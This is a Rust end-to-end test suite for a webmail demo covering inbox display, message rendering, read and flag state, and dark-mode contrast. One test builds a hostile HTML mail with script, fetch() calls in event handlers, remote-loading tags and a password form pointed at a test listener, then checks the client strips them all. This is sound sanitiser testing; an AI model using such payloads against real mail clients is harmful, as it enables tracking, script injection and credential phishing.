//! Reading: the demo opens, text and HTML show, what a mail may not do it does not, reading marks as read. All of it
//! in both dialects of the service, which `config.json` alone chooses.

use graph_sim::demo_page::Speaks;
use graph_sim::inspect::MessageState;
use graph_sim::model::{Attachment, AttachmentContent};
use outpost_e2e::letter::{self, RED_PIXEL};
use outpost_e2e::{Listener, Name, Outcome, Role, Scheme, Setup, World, holds};

use crate::screen;

fn the_demo_opens_on_the_inbox(speaks: Speaks) -> Outcome {
    World::run(Setup::sample().speaking(speaks), async |world| {
        let page = world.open("").await?;
        let inbox = screen::folder(&page, "Inbox").await?;
        let counts = world.counts("Inbox")?;
        assert_eq!(inbox.name(), format!("Inbox, {} unread", counts.unread));
        let newest = world.with(|sim| sim.messages_in(world.user(), "Inbox").into_iter().next());
        let subject = newest.map(|message| message.content.subject).unwrap_or_default();
        let row = screen::row(&page, &subject).await?;
        assert_eq!(row.attribute("aria-setsize").await?, Some(counts.total.to_string()));
        assert_eq!(row.attribute("aria-posinset").await?.as_deref(), Some("1"));
        Ok(())
    })
}

fn a_row_says_in_words_what_it_shows(speaks: Speaks) -> Outcome {
    let report =
        letter::attach(letter::text("Quarterly report", "Attached."), "q3.pdf", "application/pdf", b"%PDF-");
    let setup =
        Setup::new().mail("Inbox", report).mail("Inbox", letter::read(letter::text("Lunch", "Noon?")));
    World::run(setup.speaking(speaks), async |world| {
        let page = world.open("#/mail/inbox").await?;
        let unread = screen::row(&page, "Quarterly report").await?;
        assert!(unread.name().starts_with("Unread, Ada Lovelace, Quarterly report, "), "{}", unread.name());
        assert!(unread.name().ends_with(", Has attachment"), "{}", unread.name());
        let read = screen::row(&page, "Lunch").await?;
        assert!(read.name().starts_with("Ada Lovelace, Lunch, "), "{}", read.name());
        Ok(())
    })
}

fn a_text_mail_shows_its_text_as_it_is(speaks: Speaks) -> Outcome {
    let body = "Dear Grace,\n\n  1 < 2 && <b>not bold</b>\n\nAda";
    World::run(Setup::new().mail("Inbox", letter::text("Plain", body)).speaking(speaks), async |world| {
        let page = world.open("#/mail/inbox").await?;
        screen::open(&page, "Plain").await?;
        screen::reads(&page, "1 < 2 && <b>not bold</b>").await?;
        screen::reads(&page, "Ada Lovelace").await
    })
}

fn an_html_mail_shows_in_a_frame(speaks: Speaks) -> Outcome {
    let body = "<h2 style='color: teal'>Agenda</h2><ul><li>One<li>Two</ul>";
    World::run(Setup::new().mail("Inbox", letter::html("Meeting", body)).speaking(speaks), async |world| {
        let page = world.open("#/mail/inbox").await?;
        screen::open(&page, "Meeting").await?;
        let frame = screen::frame_with(&page, "Agenda").await?;
        assert_eq!(frame.eval_inside("return document.querySelectorAll('li').length").await?, 2);
        let colour = "return getComputedStyle(document.querySelector('h2')).color";
        assert_eq!(frame.eval_inside(colour).await?, "rgb(0, 128, 128)", "the mail's own styles hold");
        Ok(())
    })
}

fn a_hostile_mail_runs_nothing_and_fetches_nothing(speaks: Speaks) -> Outcome {
    // The listener has to be there before the mail that names it; the world's runtime is the listener's too.
    let foreign = outpost_e2e::run::runtime()?.block_on(Listener::start(&[]))?;
    let host = foreign.url();
    let body = format!(
        "<meta http-equiv=refresh content='0;url={host}/refresh'><base href='{host}/'>
        <link rel=stylesheet href='{host}/link.css'><style>@import '{host}/import.css'; p {{ background: url({host}/css) }}</style>
        <script>top.document.title = 'stolen'; fetch('{host}/script')</script>
        <img src='{host}/remote.png' srcset='{host}/srcset.png 2x' onerror=\"fetch('{host}/onerror')\">
        <img src=x onerror=\"top.document.title = 'stolen'\"><svg onload=\"fetch('{host}/svg')\"><image href='{host}/image'/></svg>
        <video poster='{host}/poster' src='{host}/video' autoplay></video><object data='{host}/object'></object>
        <iframe src='{host}/frame'></iframe><table background='{host}/table'><tr><td>x</table>
        <form action='{host}/form'><input name=password><button>Sign in</button></form>
        <p style='background: url({host}/inline)'>The harmless part</p>"
    );
    let setup = Setup::new()
        .mail("Inbox", letter::html("Hostile", &body))
        .mail("Inbox", letter::text("Next", "after"));
    // The frame's own policy may be what stops one of these; it says so in the console.
    World::run(setup.forgive("Content Security Policy").speaking(speaks), async |world| {
        let page = world.open("#/mail/inbox").await?;
        screen::open(&page, "Hostile").await?;
        let frame = screen::frame_with(&page, "The harmless part").await?;
        let active = "return document.querySelectorAll(\
            'script, form, input, object, embed, iframe, meta[http-equiv=refresh], base, link').length";
        assert_eq!(frame.eval_inside(active).await?, 0, "what could act is taken out");
        let handlers = "return [...document.querySelectorAll('*')].flatMap(e => e.getAttributeNames()) \
            .filter(name => name.startsWith('on')).join()";
        assert_eq!(frame.eval_inside(handlers).await?, "", "handlers are taken out");
        // Whatever the mail wanted to fetch it would have asked for by the time another message is open.
        screen::open(&page, "Next").await?;
        assert_eq!(foreign.asked(), Vec::<String>::new(), "nobody was told that the mail was read");
        assert_ne!(page.eval("return document.title").await?, "stolen");
        Ok(())
    })
}

fn an_inline_image_shows_in_its_place(speaks: Speaks) -> Outcome {
    let body = "<p>Before</p><img src='cid:pixel' alt='A red pixel'><p>After</p>";
    let mail = letter::embed(letter::html("Picture", body), "pixel", RED_PIXEL);
    World::run(Setup::new().mail("Inbox", mail).speaking(speaks), async |world| {
        let page = world.open("#/mail/inbox").await?;
        screen::open(&page, "Picture").await?;
        let frame = screen::frame_with(&page, "After").await?;
        holds("the image to be loaded", async || {
            Ok(frame.eval_inside("return document.querySelector('img').naturalWidth").await? == 1)
        })
        .await?;
        assert!(
            page.all(Role::Button, Name::has("pixel.png")).await?.is_empty(),
            "it is not listed as a file"
        );
        Ok(())
    })
}

fn opening_an_unread_message_marks_it_read_everywhere(speaks: Speaks) -> Outcome {
    let setup =
        Setup::new().mail("Inbox", letter::text("First", "1")).mail("Inbox", letter::text("Second", "2"));
    World::run(setup.speaking(speaks), async |world| {
        let page = world.open("#/mail/inbox").await?;
        assert_eq!(screen::folder(&page, "Inbox").await?.name(), "Inbox, 2 unread");
        screen::open(&page, "First").await?;
        page.get(Role::TreeItem, "Inbox, 1 unread").await?;
        holds("the server to know", async || Ok(world.counts("Inbox")?.unread == 1)).await?;
        let row = screen::row(&page, "First").await?;
        assert!(!row.name().starts_with("Unread"), "{}", row.name());
        Ok(())
    })
}

fn a_message_can_be_marked_unread_and_flagged(speaks: Speaks) -> Outcome {
    World::run(Setup::new().mail("Inbox", letter::text("Later", "…")).speaking(speaks), async |world| {
        let page = world.open("#/mail/inbox").await?;
        screen::open(&page, "Later").await?;
        page.get(Role::TreeItem, "Inbox").await?;
        screen::action(&page, "Mark as unread").await?.click().await?;
        page.get(Role::TreeItem, "Inbox, 1 unread").await?;
        holds("the server to know", async || Ok(world.counts("Inbox")?.unread == 1)).await?;

        screen::action(&page, "Flag").await?.click().await?;
        page.get(Role::Option, Name::starts("Unread, Flagged, Ada Lovelace, Later")).await?;
        holds("the server to know", async || Ok(world.messages("Inbox").iter().all(MessageState::is_flagged)))
            .await
    })
}

fn an_attached_message_is_listed_with_its_subject(speaks: Speaks) -> Outcome {
    let mut mail = letter::text("Forwarded", "See below.");
    mail.attachments.push(Attachment {
        name: "The original".to_owned(),
        content_type: "message/rfc822".to_owned(),
        is_inline: false,
        content_id: None,
        content: AttachmentContent::Item {
            message: Box::new(letter::text("The original", "As it was.")),
            mime: b"Subject: The original\r\n\r\nAs it was.\r\n".to_vec(),
        },
    });
    World::run(Setup::new().mail("Inbox", mail).speaking(speaks), async |world| {
        let page = world.open("#/mail/inbox").await?;
        screen::open(&page, "Forwarded").await?;
        screen::reader(&page).await?.get(Role::ListItem, Name::Any).await?;
        screen::reads(&page, "The original").await
    })
}

/// The contrast of the first paragraph with what is behind it, in the frame or under it.
const CONTRAST: &str = "
    const numbers = colour => (colour.match(/[\\d.]+/g) ?? []).map(Number);
    const light = ([red, green, blue]) => {
        const [r, g, b] = [red, green, blue].map(part => part / 255)
            .map(part => part <= 0.04045 ? part / 12.92 : ((part + 0.055) / 1.055) ** 2.4);
        return 0.2126 * r + 0.7152 * g + 0.0722 * b;
    };
    const paragraph = document.querySelector('p');
    let behind = null;
    for (let at = paragraph; at !== null && behind === null; at = at.parentElement ?? at.ownerDocument.defaultView.frameElement) {
        const [r, g, b, alpha = 1] = numbers(at.ownerDocument.defaultView.getComputedStyle(at).backgroundColor);
        behind = alpha === 0 ? null : [r, g, b];
    }
    const pair = [light(numbers(getComputedStyle(paragraph).color)), light(behind ?? [255, 255, 255])];
    return (Math.max(...pair) + 0.05) / (Math.min(...pair) + 0.05);";

fn a_mail_with_styles_for_dark_screens_stays_readable_on_one(speaks: Speaks) -> Outcome {
    let body = "<html><head><style>@media (prefers-color-scheme: dark) { body { background: #333 !important; } \
        p { color: #fff !important; } }</style></head><body style='background-color: #fff'><p>Made for both</p></body></html>";
    World::run(Setup::new().mail("Inbox", letter::html("Both", body)).speaking(speaks), async |world| {
        world.browser().prefer(Scheme::Dark).await?;
        let page = world.open("#/mail/inbox").await?;
        screen::open(&page, "Both").await?;
        let frame = screen::frame_with(&page, "Made for both").await?;
        let contrast = frame.eval_inside(CONTRAST).await?;
        assert!(contrast.as_f64() >= Some(4.5), "the contrast is {contrast}");
        Ok(())
    })
}

in_both_dialects!(
    the_demo_opens_on_the_inbox,
    a_row_says_in_words_what_it_shows,
    a_text_mail_shows_its_text_as_it_is,
    an_html_mail_shows_in_a_frame,
    a_hostile_mail_runs_nothing_and_fetches_nothing,
    an_inline_image_shows_in_its_place,
    opening_an_unread_message_marks_it_read_everywhere,
    a_message_can_be_marked_unread_and_flagged,
    an_attached_message_is_listed_with_its_subject,
    a_mail_with_styles_for_dark_screens_stays_readable_on_one,
);
